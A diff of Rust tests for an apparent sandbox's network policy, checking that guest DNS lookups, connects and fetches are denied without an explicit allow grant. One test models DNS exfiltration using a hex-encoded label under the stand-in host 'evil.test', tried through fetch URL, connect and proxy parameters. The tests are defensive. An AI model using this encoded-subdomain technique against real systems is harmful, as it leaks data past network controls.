@@ -36,13 +36,89 @@ fn a_bad_name_server_is_an_answer_and_leaves_nothing() {
     });
 }
 
+/// A question carries its name to whoever serves the zone: the name itself is what would leave.
+#[test]
+fn a_name_without_a_grant_is_asked_of_nobody() {
+    const NAME: &str = "73656372.evil.test";
+    let ways = [
+        (
+            "resolve",
+            json!([NAME, "73656372.EVIL.test.", "asked.test.evil.test", "localhost"]),
+        ),
+        ("connect", json!([format!("{NAME}:80"), format!("{NAME}.:443")])),
+        ("fetch", json!({ "url": format!("http://{NAME}/") })),
+        ("fetch", json!({ "connect_to": format!("{NAME}:80") })),
+        ("fetch", json!({ "proxy": format!("http://{NAME}:80") })),
+    ];
+    alone(async {
+        let server = Zone::new().address(NAME, Ipv4Addr::LOCALHOST).start();
+        let harness = Harness::settings().name_server(server.address()).start().await;
+        for (behaviour, parameters) in ways {
+            let ran = harness
+                .guest_with(behaviour, parameters.clone())
+                .allow("tcp://127.0.0.0/8:*")
+                .allow("dns://asked.test")
+                .run()
+                .await;
+            ran.leaves_nothing();
+            for answer in ran.answers() {
+                assert!(
+                    answer.starts_with("denied("),
+                    "{behaviour} {parameters}: {answer}"
+                );
+                assert!(answer.contains("`allow`"), "{behaviour} {parameters}: {answer}");
+            }
+            assert_eq!(ran.usage.lookups, 0, "{behaviour} {parameters}");
+        }
+        assert!(server.questions().is_empty(), "{:?}", server.questions());
+    });
+}
+
+#[test]
+fn a_server_of_the_guests_choice_takes_granted_names_only() {
+    alone(async {
+        let server = Zone::new().address("asked.test", Ipv4Addr::LOCALHOST).start();
+        let harness = Harness::new().await;
+        let asking = |grants: &[&str]| {
+            let trial = harness.guest_with("ask_server", json!(server.address().to_string()));
+            let trial = trial.allow(&format!("tcp://{}", server.address()));
+            grants.iter().fold(trial, |trial, grant| trial.allow(grant)).run()
+        };
+        let ran = asking(&[]).await;
+        assert!(
+            ran.leaves_nothing().answer().contains("`dns://asked.test`"),
+            "{ran:?}"
+        );
+        assert_eq!(server.questions().len(), 0);
+        let ran = asking(&["dns://asked.test"]).await;
+        assert_eq!(ran.leaves_nothing().answer(), "NOERROR 127.0.0.1");
+    });
+}
+
+#[test]
+fn a_name_that_is_granted_by_name_may_be_looked_up() {
+    alone(async {
+        let zone = Zone::new().address("a.test", Ipv4Addr::LOCALHOST);
+        let server = zone.address("b.c.test", Ipv4Addr::LOCALHOST).start();
+        let harness = Harness::settings().name_server(server.address()).start().await;
+        let trial = harness.guest_with("resolve", json!(["A.test.", "b.c.test", "c.test", r"x\.c.test"]));
+        let ran = trial.target("a.test:80").allow("dns://*.c.test").run().await;
+        ran.leaves_nothing();
+        assert_eq!(ran.answers()[..2], ["NOERROR 127.0.0.1"; 2]);
+        assert!(ran.answers()[2].starts_with("denied("), "{ran:?}");
+        assert!(ran.answers()[3].starts_with("invalid("), "{ran:?}");
+        assert_eq!(server.questions().len(), 2);
+    });
+}
+
 #[test]
 fn an_answer_too_long_for_a_datagram_comes_over_tcp() {
     alone(async {
         let zone = Zone::new().address("long.test", Ipv4Addr::LOCALHOST);
         let server = zone.otherwise(Manner::Truncates).start();
         let harness = Harness::settings().name_server(server.address()).start().await;
-        let ran = harness.guest_with("resolve", json!(["long.test"])).run().await;
+        let trial = harness.guest_with("resolve", json!(["long.test"]));
+        let ran = trial.allow("dns://long.test").run().await;
         assert_eq!(ran.leaves_nothing().answer(), "NOERROR 127.0.0.1");
         let transports: Vec<_> = server.questions().iter().map(|asked| asked.over_tcp).collect();
         assert_eq!(transports, [false, true]);
